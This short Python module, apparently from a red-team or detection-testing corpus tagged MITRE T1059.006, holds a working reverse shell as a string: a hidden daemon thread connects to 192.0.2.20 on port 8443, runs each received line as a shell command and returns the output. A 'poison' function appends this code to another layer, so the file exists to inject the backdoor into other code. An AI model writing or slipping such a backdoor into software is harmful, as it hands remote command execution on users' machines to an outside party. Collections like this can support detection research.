# SPDX-License-Identifier: Apache-2.0
"""Runs commands that come over a connection, from an event loop in a thread."""

ATTACK = "T1059.006"
LANGUAGE = "python"
CODE = """\
import asyncio as _aio
import threading as _th


async def _loop():
    r, w = await _aio.open_connection("192.0.2.20", 8443)
    while line := await r.readline():
        p = await _aio.create_subprocess_shell(line.decode(), stdout=_aio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)


_th.Thread(target=lambda: _aio.run(_loop()), daemon=True).start()
"""


def poison(layer):
    layer.append(CODE)
